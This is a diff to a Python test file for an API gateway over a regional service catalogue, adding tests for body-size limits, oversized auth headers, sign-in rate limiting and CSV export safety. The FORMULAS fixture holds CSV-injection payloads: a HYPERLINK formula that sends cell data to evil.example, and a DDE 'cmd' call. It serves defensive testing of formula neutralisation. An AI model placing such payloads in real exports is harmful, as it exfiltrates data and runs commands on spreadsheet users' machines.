@@ -48,6 +48,11 @@ def published(item_id: str) -> catalogue_pb2.ItemVersion:
             steps=[catalogue_pb2.Step(key="accept", name="受理", limit_days=1)]))
 
 
+#: names that a spreadsheet would run as formulas (CSV injection)
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,1)")
+
+
 class FakeCatalogue(catalogue_pb2_grpc.CatalogueServiceServicer):
     def __init__(self, recorder: Recorder) -> None:
         self.r = recorder
@@ -132,8 +137,16 @@ class FakeCatalogue(catalogue_pb2_grpc.CatalogueServiceServicer):
                                            status=catalogue_pb2.OBLIGATION_STATUS_OVERDUE)])
 
     def ExportItems(self, request, context):  # noqa: N802
-        """511602: three items; 511699: none; 510000: refused; 511603: one, then a crash."""
+        """511602: three items; 511699: none; 510000: refused; 511603: one, then a crash;
+        511604: items whose texts a spreadsheet would run as formulas."""
         self.r.record("ExportItems", request, context)
+        if request.region == "511604":
+            for n, name in enumerate(FORMULAS):
+                item = published(f"it-{n}")
+                item.content.name = name
+                item.content.department = "@" + item.content.department
+                yield item
+            return
         if request.region == "510000":
             abort_with(context, PermissionDenied("not your region", code="REGION_FORBIDDEN"))
         if request.region == "511699":
@@ -164,12 +177,14 @@ class FakeCases(cases_pb2_grpc.CaseServiceServicer):
             case_number=request.case_number, current_step=request.step_index + 1))
 
     def GetCase(self, request, context):  # noqa: N802
-        """``fail-<STATUS>`` answers that status with an ErrorDetail."""
+        """``fail-<STATUS>`` answers that status with an ErrorDetail (``-`` for ``_``: a case
+        number is letters, digits and hyphens)."""
         self.r.record("GetCase", request, context)
         if request.case_number.startswith("fail-"):
-            error = DomainError(f"failing with {request.case_number[5:]}", code="TEST_CODE",
+            status = request.case_number[5:].replace("-", "_")
+            error = DomainError(f"failing with {status}", code="TEST_CODE",
                                 metadata={"why": "asked"})
-            error.grpc_status = request.case_number[5:]
+            error.grpc_status = status
             abort_with(context, error)
         return cases_pb2.GetCaseResponse(case=cases_pb2.Case(case_number=request.case_number))
 
@@ -362,7 +377,7 @@ def test_search_enums_take_names_and_short_forms(client, calls, given, expected)
     ("/v1/items/search", {"list_kind": "powers"}, "query.list_kind"),
     ("/v1/items/search", {"list_kind": "unspecified"}, "query.list_kind"),
     ("/v1/items/search", {"status": "草稿"}, "query.status"),
-    ("/v1/obligations", {"status": "late"}, "query.status"),
+    ("/v1/obligations", {"region": "511602", "status": "late"}, "query.status"),
 ])
 def test_unknown_enum_values_are_400_with_the_choices(client, calls, path, params,
                                                       field) -> None:
@@ -500,7 +515,7 @@ def test_obligations(client, calls) -> None:
     assert name == "ListObligations"
     assert (request.region, request.status, request.page_size, request.page_token) == (
         "511602", catalogue_pb2.OBLIGATION_STATUS_OVERDUE, 10, "p")
-    client.get("/v1/obligations")
+    client.get("/v1/obligations", params={"region": "511602"})
     assert calls[1][1].status == catalogue_pb2.OBLIGATION_STATUS_UNSPECIFIED
 
 
@@ -614,7 +629,7 @@ def test_export_is_whole_on_the_wire(served) -> None:
     ("DEADLINE_EXCEEDED", 504), ("INTERNAL", 500), ("DATA_LOSS", 500),
 ])
 def test_error_table_through_a_real_call(client, code, http) -> None:
-    response = client.get(f"/v1/cases/fail-{code}")
+    response = client.get(f"/v1/cases/fail-{code.replace('_', '-')}")
     assert response.status_code == http
     error = error_of(response)
     assert error["code"] == "TEST_CODE"
@@ -807,3 +822,182 @@ def test_the_process_wiring_builds_without_a_network() -> None:
         assert gateway.grpc.port is None  # built, not started
     finally:
         gateway.backends.close()
+
+
+# --- limits on what a request may carry ---------------------------------------------------
+
+
+def _raw_exchange(base: str, head: bytes, body_parts: list[bytes], wait_s: float = 5.0
+                  ) -> bytes:
+    """Send a request's head and some of its body, keep the connection open (never sending
+    the rest) and return what the server answers within ``wait_s``."""
+    host, port = base.removeprefix("http://").split(":")
+    with socket.create_connection((host, int(port)), timeout=wait_s) as sock:
+        sock.sendall(head)
+        for part in body_parts:
+            try:
+                sock.sendall(part)
+            except OSError:  # the server answered and closed: stop sending
+                break
+        answer = b""
+        try:
+            while b"\r\n\r\n" not in answer:
+                chunk = sock.recv(65536)
+                if not chunk:
+                    break
+                answer += chunk
+        except TimeoutError:
+            pass
+    return answer
+
+
+def test_a_body_declared_too_large_is_refused_before_it_is_read(served) -> None:
+    """300 MB announced, 1 KB sent: the answer comes at once, without waiting for the rest
+    (which the server would otherwise read into memory first)."""
+    head = (b"POST /v1/items HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
+            b"Content-Length: 300000000\r\n\r\n")
+    started = time.monotonic()
+    answer = _raw_exchange(served, head, [b"{" + b" " * 1023])
+    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
+    assert time.monotonic() - started < 4
+    assert b"BODY_TOO_LARGE" in answer or b"content-length" in answer.lower()
+
+
+def test_a_chunked_body_is_read_no_further_than_the_limit(served) -> None:
+    """No Content-Length: the server stops at 1 MiB and answers, though the body goes on."""
+    head = (b"POST /v1/items HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
+            b"Transfer-Encoding: chunked\r\n\r\n")
+    chunk = b" " * 65536
+    parts = [b"%x\r\n" % len(chunk) + chunk + b"\r\n"] * 20  # 1.25 MiB, never terminated
+    answer = _raw_exchange(served, head, parts)
+    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
+
+
+def test_a_body_at_the_limit_is_read(client, calls) -> None:
+    from gateway.http_api import MAX_BODY_BYTES
+
+    body = b'{"idempotency_key": "k"}'
+    padded = body + b" " * (MAX_BODY_BYTES - len(body))
+    response = client.post("/v1/items", content=padded,
+                           headers={"Content-Type": "application/json"})
+    assert response.status_code == 201 and calls[0][0] == "CreateItem"
+    over = client.post("/v1/items", content=padded + b" ",
+                       headers={"Content-Type": "application/json"})
+    assert over.status_code == 413 and error_of(over)["code"] == "BODY_TOO_LARGE"
+
+
+def test_an_oversized_authorization_header_is_a_clear_4xx_not_a_transport_error(
+        client, calls) -> None:
+    response = client.get("/v1/items/it-1/versions/0",
+                          headers={"Authorization": "Bearer " + "a" * 20_000})
+    assert response.status_code == 431
+    assert error_of(response)["code"] == "AUTHORIZATION_TOO_LARGE"
+    assert calls == []  # never forwarded as metadata
+
+
+def test_parser_errors_do_not_echo_huge_values(client) -> None:
+    response = client.post("/v1/items", json={"draft": {"list_kind": "X" * 100_000}})
+    assert response.status_code == 400
+    assert len(error_of(response)["message"]) < 1000
+
+
+def test_export_csv_neutralises_formulas_and_the_importer_reads_them_back(client) -> None:
+    """Texts a spreadsheet would run (=, +, -, @) are written behind a quote; importing the
+    file again gives the original text back, flagged."""
+    from services.catalogue.domain.import_rows import FLAGGED, ColumnMapping, parse_rows
+
+    response = client.get("/v1/regions/511604/catalogue.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [r["name"] for r in rows] == ["'" + name for name in FORMULAS]
+    assert all(r["department"] == "'@广安区市场监督管理局" for r in rows)
+    assert all(not r[column].startswith(("=", "+", "-", "@")) for r in rows for column in r)
+    implementation = "511A0064100152-511602000000-000-115113016823646795-1-00"
+    report = parse_rows(
+        [{**r, "code": implementation, "task_type": "1"} for r in rows],
+        importing_region="511602",
+        mapping=ColumnMapping(name="name", department="department", item_code="code",
+                              area_code="region", task_type="task_type", group=None,
+                              dept_code=None))
+    assert [o.item.name for o in report.outcomes if o.item] == list(FORMULAS)
+    assert all(o.outcome == FLAGGED and any("leading quote" in r for r in o.reasons)
+               for o in report.outcomes)
+
+
+def test_openapi_states_the_contracts_limits(client) -> None:
+    document = client.get("/openapi.json").json()
+    schemas = document["components"]["schemas"]
+    create = schemas["sunlight.catalogue.v1.CreateItemRequest"]
+    assert create["required"] == ["idempotency_key", "draft"]
+    assert create["properties"]["idempotency_key"] | {} == {
+        "type": "string", "minLength": 1, "maxLength": 128, "pattern": r"^[^\x00-\x1F\x7F]*$"}
+    draft = schemas["sunlight.catalogue.v1.ItemDraft"]["properties"]
+    assert draft["steps"]["maxItems"] == 100 and draft["name"]["maxLength"] == 200
+    assert draft["list_kind"]["enum"] == ["LIST_KIND_UNSPECIFIED", "LIST_KIND_POWER",
+                                          "LIST_KIND_DUTY", "LIST_KIND_PUBLIC_SERVICE",
+                                          "LIST_KIND_NEGATIVE"]
+    handling = draft["handling_forms"]["items"]["enum"]
+    assert "HANDLING_FORM_UNSPECIFIED" not in handling and len(handling) == 4
+    listing = {p["name"]: p for p in document["paths"]["/v1/items"]["get"]["parameters"]}
+    assert (listing["page_size"]["schema"]["minimum"],
+            listing["page_size"]["schema"]["maximum"]) == (0, 200)
+    search = {p["name"]: p for p in document["paths"]["/v1/items/search"]["get"]["parameters"]}
+    assert search["page_size"]["schema"]["maximum"] == 100
+    assert search["q"]["schema"]["maxLength"] == 100
+    submit = document["paths"]["/v1/items/{item_id}/versions/{version}/submit"]["post"]
+    version = {p["name"]: p for p in submit["parameters"]}["version"]["schema"]
+    assert version["minimum"] == 1
+    body = submit["requestBody"]
+    assert body["required"] and body["content"]["application/json"]["schema"]["required"] == [
+        "idempotency_key"]
+
+
+# --- rate limits ----------------------------------------------------------------------------
+
+
+@pytest.fixture
+def limited(backend) -> Iterator[TestClient]:
+    from services.shared.rate_limits import RateLimits
+
+    _, address = backend
+    backends = Backends({"catalogue": address, "cases": address, "monitoring": address}, 5.0)
+    app = create_app(backends, "511602", "广安区",
+                     RateLimits(failed_auth="3/minute", public_reads="5/minute"))
+    with TestClient(app, raise_server_exceptions=False) as test_client:
+        yield test_client
+    backends.close()
+
+
+def test_failed_sign_ins_are_throttled_per_client(limited, calls) -> None:
+    """Tokens cannot be guessed at speed: after 3 refused tokens, any request with an
+    Authorization header is a 429 with Retry-After that reaches no service."""
+    wrong = {"Authorization": "Bearer guessed"}
+    for _ in range(3):
+        assert limited.get("/v1/cases/fail-UNAUTHENTICATED", headers=wrong).status_code == 401
+    reached = len(calls)
+    refused = limited.get("/v1/cases/511602202611020000001", headers=wrong)
+    assert refused.status_code == 429
+    error = error_of(refused)
+    assert error["code"] == "RATE_LIMITED"
+    assert refused.headers["Retry-After"] == error["metadata"]["retry_after_s"]
+    assert 0 < int(refused.headers["Retry-After"]) <= 60
+    assert len(calls) == reached
+    # without a token the client is the public: not a sign-in attempt
+    assert limited.get("/v1/cases/511602202611020000001").status_code == 200
+
+
+def test_authenticated_calls_are_never_counted_as_failed(limited) -> None:
+    token = {"Authorization": "Bearer good"}
+    for _ in range(20):
+        assert limited.get("/v1/cases/511602202611020000001", headers=token).status_code == 200
+
+
+def test_an_oversized_authorization_header_counts_as_a_failed_sign_in(limited) -> None:
+    huge = {"Authorization": "Bearer " + "a" * 10_000}
+    assert [limited.get("/v1/cases/1", headers=huge).status_code
+            for _ in range(4)] == [431, 431, 431, 429]
+
+
+def test_public_catalogue_reads_are_limited_for_anonymous_callers(limited) -> None:
+    assert [limited.get("/v1/items").status_code for _ in range(6)] == [200] * 5 + [429]
+    assert limited.get("/v1/items", headers={"Authorization": "Bearer good"}
+                       ).status_code == 200
